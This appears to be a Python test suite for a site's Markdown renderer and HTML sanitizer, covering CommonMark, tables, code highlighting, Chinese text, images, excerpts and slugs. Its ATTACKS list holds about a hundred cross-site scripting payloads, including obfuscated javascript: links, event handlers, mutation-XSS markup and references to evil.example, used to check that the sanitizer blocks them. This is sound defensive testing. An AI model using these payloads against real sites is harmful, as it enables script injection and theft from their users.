"""Text: what Markdown becomes, what never gets through, and words taken out of it."""

import re
import unittest
from html.parser import HTMLParser
from unittest import mock

from app.text import (
    excerpt,
    has_control_characters,
    pictures_in,
    plain_text,
    render_markdown,
    slugify,
)
from app.text.allowed import ATTRIBUTES, BLOCKS, INLINES

VOID = {"br", "hr", "img", "input", "wbr"}

ATTACKS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script>//
<img src=x onerror=alert(1)>
<img src="/x" onload="alert(1)">
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror=alert(1) //
<img src="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<img srcset="//evil.example/a.png 2x" src="/a.png">
<picture><source srcset="//evil.example/a.png"><img src="/a.png"></picture>
<img src="/\\evil.example/a.png">
<img src="/&#9;/evil.example/a.png">
<img src="//evil.example/a.png">
<img src="&#10;//evil.example/a.png">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#1;script:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="/x" onclick=alert(1)>x</a>
<a href="/x" target=_blank ping=//evil.example download>x</a>
<a id=config name=config href=/x>x</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](javascript&#58;alert(1))
[x](<java\tscript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x)
[x]: javascript:alert(1) "t"\n\n[x]
<javascript:alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x" onerror="alert(1)](/x.png)
![x](/x.png"onerror="alert(1))
![x](/x.png 'a" onerror="alert(1)')
[x](/x '" onmouseover="alert(1)')
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></math>
<math href="javascript:alert(1)">x</math>
<svg></p><style><a title="</style><img src onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<title><img title="</title><img src onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>
<template><img src=x onerror=alert(1)></template>
<iframe src="//evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="//evil.example"></object>
<embed src="//evil.example">
<video src="//evil.example/v" onerror=alert(1)><source src="//evil.example/v"></video>
<audio src="//evil.example/a"></audio>
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv=refresh content="0;url=//evil.example">
<base href="//evil.example">
<style>@import "//evil.example/x.css";</style>
<p style="background:url(//evil.example/x)">x</p>
<table background="//evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>
<body onload=alert(1)>
<form action="//evil.example"><input name=password><button>go</button></form>
<input autofocus onfocus=alert(1)>
<input type=image src="//evil.example/x">
<select autofocus onfocus=alert(1)><option>x</option></select>
<button formaction="javascript:alert(1)">x</button>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<div data-controller="theme" data-bs-toggle="modal" class="modal" id="csrf_token" name="x">x</div>
<p tabindex=1 role=alert aria-label=x contenteditable accesskey=x>x</p>
<blockquote cite="javascript:alert(1)">x</blockquote>
<xss id=x tabindex=1 onfocus=alert(1)>x</xss>
<a href="/x" title='"><img src=x onerror=alert(1)>'>x</a>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?php echo '<img src=x onerror=alert(1)>'; ?>
</div></main><script>alert(1)</script>
```"><img src=x onerror=alert(1)>\ncode\n```
``` rust" onclick="alert(1)\ncode\n```
`<img src=x onerror=alert(1)>`
[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note
- [ ] <input type=text name=q onfocus=alert(1)>
|a" onclick="alert(1)|\n|:-:|\n|<td onclick=alert(1)>|
https://example.com/"onmouseover="alert(1)
<https://example.com/"onmouseover="alert(1)>
""".strip().split("\n")


class Reader(HTMLParser):
    """Lists the start tags of a page, and complains of tags that do not match."""

    def __init__(self, markup: str) -> None:
        """Read a piece of HTML."""
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.is_balanced = True
        self.feed(markup)
        self.close()
        self.is_balanced = self.is_balanced and not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.is_balanced = False

    def all(self, tag: str) -> list[dict[str, str | None]]:
        """Return the attributes of each element of this kind."""
        return [attributes for name, attributes in self.tags if name == tag]


def read(source: str) -> Reader:
    return Reader(render_markdown(source))


class RenderingTestCase(unittest.TestCase):
    """Checks shared by the cases."""

    def assert_harmless(self, markup: str) -> None:
        page = Reader(markup)
        self.assertTrue(page.is_balanced, markup)
        for tag, attributes in page.tags:
            self.assertIn(tag, BLOCKS | INLINES, markup)
            allowed = ATTRIBUTES.get(tag, set()) | {"class", "dir", "lang"}
            self.assertLessEqual(set(attributes), allowed, markup)
            if "href" in attributes:
                self.assertRegex(
                    attributes["href"] or "", r"\A(?:https?://|mailto:|[^:]*\Z|[/#?.])"
                )
            if tag == "img":
                self.assertRegex(attributes["src"] or "", r"\A/(?![/\\])")
            if tag == "input":
                self.assertEqual(attributes["type"], "checkbox")
                self.assertIn("disabled", attributes)
        ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
        self.assertEqual(len(ids), len(set(ids)), markup)
        self.assertTrue(all(re.fullmatch(r"fn(ref)?-[0-9:]+", own or "") for own in ids), markup)


class SafetyTestCase(RenderingTestCase):
    """What a writer, or whoever took over his account, cannot bring onto a page."""

    def test_no_attack_gets_through(self) -> None:
        for attack in ATTACKS:
            for source in (attack, f"text {attack} text", f"<div>\n{attack}\n\n> {attack}"):
                source = source.replace("\\n", "\n").replace("\\t", "\t")
                with self.subTest(source=source):
                    self.assert_harmless(render_markdown(source))

    def test_words_of_a_script_are_left_out_with_it(self) -> None:
        self.assertEqual(plain_text(render_markdown("a <script>b</script> c")), "a c")

    def test_only_a_task_list_has_checkboxes(self) -> None:
        source = '<input type=checkbox class="task-list-item-checkbox">\n\n- [x] done'
        self.assertEqual(len(read(source).all("input")), 1)

    def test_a_writers_ids_and_classes_go(self) -> None:
        page = read('<div id="fn-1" class="modal k" data-x="y" name="z">x</div>')
        self.assertEqual(page.all("div"), [{}])

    def test_a_link_to_another_host_says_nothing_of_us(self) -> None:
        links = read("[a](https://example.com) [b](/post/1) [c](#d)").all("a")
        self.assertEqual([link.get("rel") for link in links], ["noopener noreferrer", None, None])

    def test_a_link_that_leads_nowhere_safe_keeps_its_words(self) -> None:
        self.assertEqual(render_markdown('<a href="javascript:x">words</a>'), "<p>words</p>\n")

    def test_control_characters_are_dropped(self) -> None:
        markup = render_markdown("a\x00b\x1b\u0085\ud800c\r\nd\n\n<p>&#1;&#x9f;</p>")
        self.assertFalse(has_control_characters(markup, multiline=True))
        self.assertIn("abc\nd", markup)

    def test_a_control_character_cannot_hide_a_scheme(self) -> None:
        for between in ("\x01", "&#1;", "\t", "\n", "&Tab;", "\u0085", "\x00"):
            links = read(f'<a href="java{between}script:alert(1)">x</a>').all("a")
            self.assertFalse([link for link in links if "script:" in (link["href"] or "")])


class MarkdownTestCase(RenderingTestCase):
    """GitHub's flavour, and CommonMark where the flavour says nothing."""

    def assert_renders(self, source: str, expected: str) -> None:
        self.assertEqual(render_markdown(source).strip(), expected)

    def test_commonmark_stays_as_it_is(self) -> None:
        for source, expected in {
            "*a*b **c**d __e__f": "<p><em>a</em>b <strong>c</strong>d __e__f</p>",
            "foo*bar* *(*a*)* **a.**b": "<p>foo<em>bar</em> <em>(<em>a</em>)</em> **a.**b</p>",
            "a * b * c _ d _": "<p>a * b * c _ d _</p>",
            "\\*a\\* &copy; `<b>`": "<p>*a* © <code>&lt;b&gt;</code></p>",
            "a  \nb\nc": "<p>a<br>\nb\nc</p>",
            "[a][b]\n\n[b]: /c 'd'": '<p><a href="/c" title="d">a</a></p>',
        }.items():
            with self.subTest(source=source):
                self.assert_renders(source, expected)

    def test_a_table_aligns_by_classes(self) -> None:
        page = read("|a|b|c|d|\n|:-|:-:|-:|-|\n|1|2|3|4|")
        classes = ["text-start", "text-center", "text-end", None]
        self.assertEqual([cell.get("class") for cell in page.all("th")], classes)
        self.assertEqual([cell.get("class") for cell in page.all("td")], classes)

    def test_a_table_scrolls_in_its_own_box(self) -> None:
        boxes = read("|a|\n|-|\n|1|").all("div")
        self.assertEqual(boxes, [{"class": "table-scroll", "tabindex": "0"}])

    def test_strikethrough(self) -> None:
        self.assert_renders("~~a~~", "<p><s>a</s></p>")

    def test_a_task_has_a_box_named_by_its_words(self) -> None:
        todo, done = read("- [ ] buy *milk*\n- [x] rest").all("input")
        self.assertEqual((todo["aria-label"], "checked" in todo), ("buy milk", False))
        self.assertEqual((done["aria-label"], "checked" in done), ("rest", True))

    def test_footnotes_lead_there_and_back(self) -> None:
        page = read("a[^n] b[^n]\n\n[^n]: note")
        ids = {attributes["id"] for _, attributes in page.tags if "id" in attributes}
        aims = {(link["href"] or "")[1:] for link in page.all("a")}
        self.assertEqual(ids, {"fn-1", "fnref-1", "fnref-1:1"})
        self.assertEqual(aims, ids)

    def test_bare_links_end_before_punctuation(self) -> None:
        links = read("See https://example.com/a_b_c. www.example.com, me@example.com!").all("a")
        self.assertEqual(
            [link["href"] for link in links],
            ["https://example.com/a_b_c", "http://www.example.com", "mailto:me@example.com"],
        )

    def test_a_file_name_is_no_link(self) -> None:
        self.assert_renders("lib.rs main.py a.b.c", "<p>lib.rs main.py a.b.c</p>")

    def test_headings_start_below_the_title_and_skip_no_level(self) -> None:
        for source, tags in {
            "# a\n## b\n# c": ["h2", "h3", "h2"],
            "## a\n#### b": ["h2", "h3"],
            "###### a": ["h2"],
        }.items():
            self.assertEqual([tag for tag, _ in read(source).tags], tags)

    def test_an_empty_heading_is_left_out(self) -> None:
        self.assert_renders("#\n\n## <b></b>", "")

    def test_deep_lists_lose_no_words(self) -> None:
        source = "\n".join(f"{'  ' * depth}- w{depth}" for depth in range(14))
        self.assertEqual(plain_text(render_markdown(source)).count("w"), 14)

    def test_angle_brackets_that_are_no_tags_are_shown(self) -> None:
        self.assert_renders("Vec<T> 1 < 2", "<p>Vec&lt;T&gt; 1 &lt; 2</p>")


class CodeTestCase(RenderingTestCase):
    """Blocks of code."""

    def test_code_is_coloured_by_class_names(self) -> None:
        page = read("```rust\nfn main() {}\n```")
        self.assertEqual(page.all("pre"), [{"class": "highlight", "tabindex": "0"}])
        self.assertEqual(page.all("code"), [{"class": "language-rust"}])
        self.assertIn({"class": "k"}, page.all("span"))

    def test_the_first_word_names_the_language(self) -> None:
        for info in ("rust,ignore", "rust should_panic", "rust{1,2}", "Rust", "{.rust}"):
            self.assertEqual(read(f"```{info}\nfn\n```").all("code"), [{"class": "language-rust"}])

    def test_an_unknown_language_is_shown_plain(self) -> None:
        for info in ("cargo", "nonsense", "c++", "?!", "中文", "a" * 99, "../../x"):
            markup = render_markdown(f"```{info}\n<b>&\n```")
            self.assertIn("&lt;b&gt;&amp;", re.sub("</?span[^>]*>", "", markup))

    def test_code_that_takes_too_long_is_shown_plain(self) -> None:
        with mock.patch("app.text.markdown.SECONDS_OF_HIGHLIGHTING", 0):
            self.assertEqual(read("```rust\nfn\n```").all("span"), [])
        self.assertEqual(read("```rust\n" + "fn " * 5000 + "\n```").all("span"), [])

    def test_code_keeps_its_blank_lines(self) -> None:
        self.assertIn("\n\n\nb", re.sub("<[^>]+>", "", render_markdown("```py\n\na\n\n\nb\n```")))


class ChineseTestCase(RenderingTestCase):
    """Text without blanks between its words."""

    def test_emphasis_beside_chinese_punctuation(self) -> None:
        for source, expected in {
            "**强调。**后面": "<strong>强调。</strong>后面",
            "前面**“引用”**后面": "前面<strong>“引用”</strong>后面",
            "**《书》**是": "<strong>《书》</strong>是",
            "*重点！*好": "<em>重点！</em>好",
            "~~删除。~~好": "<s>删除。</s>好",
            "**强调（abc）**后面": "<strong>强调（abc）</strong>后面",
            "**强调(abc)**后面": "<strong>强调(abc)</strong>后面",
            "**日本語。**テスト": "<strong>日本語。</strong>テスト",
        }.items():
            with self.subTest(source=source):
                self.assertEqual(render_markdown(source).strip(), f"<p>{expected}</p>")

    def test_underscores_inside_a_word_stay(self) -> None:
        self.assertEqual(render_markdown("中_文_字 ** 空 **"), "<p>中_文_字 ** 空 **</p>\n")

    def test_a_bare_link_ends_before_a_full_width_mark(self) -> None:
        source = (
            "看 https://example.com/a，然后。看https://example.com/b）（https://example.com/c）"
        )
        links = [link["href"] for link in read(source).all("a")]
        self.assertEqual(links, [f"https://example.com/{letter}" for letter in "abc"])


class ImageTestCase(RenderingTestCase):
    """No page asks another host for anything."""

    def test_an_image_of_this_site_stays(self) -> None:
        images = read('![alt](/files/a.png "t")').all("img")
        loading = {"loading": "lazy", "decoding": "async"}
        self.assertEqual(images, [{"src": "/files/a.png", "alt": "alt", "title": "t"} | loading])

    def test_an_image_of_another_host_becomes_a_link(self) -> None:
        for source in (
            "![](https://example.com/a%20b.png?x)",
            "<img src='https://example.com/a b.png?x'>",
            "![](//example.com/a%20b.png?x)",
        ):
            markup = render_markdown(source)
            (link,) = Reader(markup).all("a")
            self.assertEqual(link["href"], "https://example.com/a%20b.png?x")
            self.assertEqual((link["class"], plain_text(markup)), ("external-image", "a b.png"))

    def test_inside_a_link_only_the_words_of_an_image_are_left(self) -> None:
        markup = render_markdown("[![words](https://example.com/a.png)](/b)")
        self.assertEqual(markup, '<p><a href="/b">words</a></p>\n')

    def test_an_image_that_is_nowhere_becomes_words(self) -> None:
        for address, label in {
            "graph.png": "graph.png",
            "../x/y.png": "y.png",
            "data:,x": "image",
        }.items():
            markup = render_markdown(f"<p><img src='{address}'></p>\n")
            self.assertEqual(markup, f'<p><span class="missing-image">{label}</span></p>\n')


class UploadedPictureTestCase(RenderingTestCase):
    """The address of an uploaded picture says how it is shown."""

    base = "/media/ab/ab12ab12ab12ab12-1200x801"

    def test_it_has_its_size_and_narrower_files(self) -> None:
        html = render_markdown(f"![Sand]({self.base}.jpg)")
        self.assertIn('width="1200" height="801"', html)
        narrower = f"{self.base}.480.webp 480w, {self.base}.960.webp 960w"
        self.assertIn(f'srcset="{narrower}, {self.base}.jpg 1200w"', html)
        self.assertIn('sizes="', html)
        self.assertIn('loading="lazy"', html)

    def test_what_is_small_or_moves_or_is_a_narrower_file_has_its_size_alone(self) -> None:
        for address, size in (
            ("/media/ab/ab12ab12ab12ab12-480x300.png", 'width="480" height="300"'),
            ("/media/ab/ab12ab12ab12ab12-900x300a.gif", 'width="900" height="300"'),
            (f"{self.base}.480.webp", 'width="480" height="320"'),
        ):
            html = render_markdown(f"![x]({address})")
            self.assertIn(size, html)
            self.assertNotIn("srcset", html)

    def test_a_writer_sets_neither_its_size_nor_its_sources(self) -> None:
        typed = f'<img src="{self.base}.jpg" width="9" srcset="/x.png 2x" sizes="1px">'
        html = render_markdown(typed)
        self.assertIn('width="1200"', html)
        for words in ('"9"', "/x.png", "1px"):
            self.assertNotIn(words, html)

    def test_other_addresses_are_no_uploaded_pictures(self) -> None:
        for address in (
            "/media/ab/ab12-1200x800.jpg",
            "/media/ab/ab12ab12ab12ab12-0x800.jpg",
            f"{self.base}.481.webp",
            f"{self.base}.svg",
            f"{self.base}.jpg?x=1",
            f"/x{self.base}.jpg",
        ):
            self.assertNotIn("width=", render_markdown(f"![x]({address})"), address)

    def test_a_text_names_its_pictures_in_any_way(self) -> None:
        for text in (f"![x]({self.base}.jpg)", f"[x]({self.base}.480.webp)"):
            self.assertEqual(pictures_in(render_markdown(text)), {"ab12ab12ab12ab12"})


class TidyTestCase(RenderingTestCase):
    """HTML of a writer becomes valid and loses no words."""

    def assert_tidied(self, source: str, expected: str) -> None:
        self.assertEqual(re.sub(r"\n", "", render_markdown(source)), expected)

    def test_stray_parts_find_a_home(self) -> None:
        for source, expected in {
            "<li>a<li>b": "<ul><li>a</li><li>b</li></ul>",
            "<ul>a<li>b</ul>": "<ul><li>a</li><li>b</li></ul>",
            "<dl><dt>a</dl>": "<dl><dt>a</dt><dd></dd></dl>",
            "<td>a</td>": "a",
            "<summary>a</summary>": "a",
            "<details>a</details>": "<details><summary>…</summary>a</details>",
            "<p>a<div>b</div></p>": "<p>a</p><div>b</div>",
            "<center><font>a</font></center>": "<div>a</div>",
            "<div><span>a<p>b</p></span></div>": "<div><span>a</span><p>b</p></div>",
            "<h2>a<h3>b</h3>": '<h2 id="section-a">a</h2><h3 id="section-b">b</h3>',
        }.items():
            with self.subTest(source=source):
                self.assert_tidied(source, expected)

    def test_a_table_gets_the_rows_it_lacks(self) -> None:
        for source in ("<table><td>a</table>", "<table>a</table>", "<table><tr><td>a"):
            self.assertIn(
                "<table><tbody><tr><td>a</td></tr></tbody></table>", render_markdown(source)
            )

    def test_links_do_not_nest(self) -> None:
        self.assert_tidied(
            '<a href="/a">x [y](/b) z</a>', '<p><a href="/a">x </a><a href="/b">y</a> z</p>'
        )

    def test_a_link_round_a_block_becomes_a_link_in_it(self) -> None:
        self.assert_tidied(
            "<a href=/a><h2>t</h2></a>x",
            '<h2 id="section-t"><a href="/a">t</a></h2>x',
        )

    def test_ruby_stays_where_it_is_whole(self) -> None:
        whole = "<ruby>汉<rp>(</rp><rt>hàn</rt><rp>)</rp></ruby>"
        self.assert_tidied(whole, f"<p>{whole}</p>")
        self.assert_tidied("<ruby>a<rp>b</ruby>", "<p>ab</p>")

    def test_what_is_tidy_stays_as_it_is(self) -> None:
        source = "a <b>b</b> <kbd>c</kbd>\n\n<details><summary>d</summary>\n\n- e\n\n</details>"
        once = render_markdown(source)
        self.assertEqual(render_markdown(once).replace("\n", ""), once.replace("\n", ""))


class HostileTestCase(RenderingTestCase):
    """Texts written to keep the server busy: each took minutes, or gigabytes, once."""

    def test_repetition_ends_and_stays_small(self) -> None:
        pieces = (
            "[", "*", ">", "![", "`", "<a \"'", "<!--", "<b><p>", "<div>", "<ul><li>", "- ",
            "*a _b ", "http://a.b/((", "http:// ", "|a|b|\n|-|-|\n", "[^1]", "a@", "**中。",
            "<script>", "</p>", "www.", "[](", "![a](", "[a]: <b",
        )  # fmt: skip
        for piece in pieces:
            with self.subTest(piece=piece):
                markup = render_markdown((piece * 20_000)[:20_000])
                self.assertLess(len(markup), 400_000)

    def test_more_notes_than_any_book_has_are_no_notes(self) -> None:
        for marks, notes in ((2, 1), (49_000, 0)):
            rendered = render_markdown("[^a]" * marks + "\n\n[^a]: x")
            self.assertEqual(rendered.count('class="footnotes"'), notes)

    def test_deep_nesting_ends_somewhere(self) -> None:
        for source in (
            "<div>" * 5000 + "x",
            "<b>" * 5000 + "x",
            "> " * 5000 + "x",
            "*a **b " * 3000,
        ):
            page = Reader(render_markdown(source))
            self.assertTrue(page.is_balanced)

    def test_open_formatting_is_not_copied_into_each_paragraph(self) -> None:
        source = "".join(f"<b title={n}>" for n in range(900)) + "<p>x" * 900
        self.assertLess(len(render_markdown(source)), 2 * len(source))


class WordsTestCase(unittest.TestCase):
    """Plain text, excerpts and slugs."""

    def test_plain_text_is_what_is_read(self) -> None:
        markup = render_markdown("# A &amp; B\n\nc *d*e[^1]\nf\n\n```\ncode\n```\n\n- g\n\n[^1]: h")
        self.assertEqual(plain_text(markup), "A & B\nc de f\ng\nh")

    def test_a_short_text_is_its_own_excerpt(self) -> None:
        self.assertEqual(excerpt("<p>one</p><p>two</p>"), "one two")

    def test_an_excerpt_has_no_headings_unless_there_is_nothing_else(self) -> None:
        self.assertEqual(
            excerpt("<h2>What</h2><p>one</p><table><td>x</td></table><p>two"), "one two"
        )
        self.assertEqual(excerpt("<h2>Only this</h2>"), "Only this")

    def test_an_excerpt_ends_with_a_whole_word(self) -> None:
        self.assertEqual(excerpt("<p>alpha beta gamma delta</p>", 20), "alpha beta gamma…")

    def test_a_chinese_excerpt_ends_at_a_mark_if_one_is_near(self) -> None:
        self.assertEqual(excerpt("今天天气很好。我们出去玩" * 3, 10), "今天天气很好。…")
        self.assertEqual(excerpt("字" * 30, 10), "字" * 9 + "…")

    def test_an_excerpt_never_splits_a_character(self) -> None:
        for character in ("👩‍👩‍👧‍👦", "e\u0301", "👍🏽", "❤️", "🇨🇳"):
            for limit in range(12, 30):
                text = excerpt(character * 20, limit).removesuffix("…")
                self.assertLess(len(text), limit)
                self.assertEqual(text.replace(character, ""), "", character)

    def test_an_excerpt_is_never_longer_than_its_limit(self) -> None:
        for limit in range(1, 40):
            self.assertLessEqual(len(excerpt("word 中文，字 longerword" * 9, limit)), limit)

    def test_slugs(self) -> None:
        for title, slug in {
            "Hello, World!": "hello-world",
            "你好，世界 2.0": "你好-世界-2-0",
            "ＡＢＣ ﬁn": "abc-fin",
            "हिन्दी": "हिन्दी",
            "a__b--c": "a-b-c",
            "!!! ❤️": "post",
            "": "post",
        }.items():
            self.assertEqual(slugify(title), slug)

    def test_a_slug_has_at_most_80_characters(self) -> None:
        self.assertEqual(slugify("a" * 79 + " b c"), "a" * 79)
        self.assertEqual(len(slugify("字" * 200)), 80)


class ControlCharactersTestCase(unittest.TestCase):
    """Characters that nobody sees."""

    def test_a_line_has_none(self) -> None:
        for character in "\x00\n\t\r\x1b\x7f\x85\u202a\u202e\u2066\u2069\ud800\udfff":
            self.assertTrue(has_control_characters(f"a{character}b"), repr(character))

    def test_several_lines_may_have_some(self) -> None:
        self.assertFalse(has_control_characters("a\n\tb\r\n\u202ec\u2066", multiline=True))
        for character in "\x00\x0b\x0c\x1b\x7f\x85\ud800":
            self.assertTrue(has_control_characters(character, multiline=True), repr(character))

    def test_ordinary_text_has_none(self) -> None:
        self.assertFalse(has_control_characters("Zoë 中文 👩‍👩‍👧 עברית"))


if __name__ == "__main__":
    unittest.main()
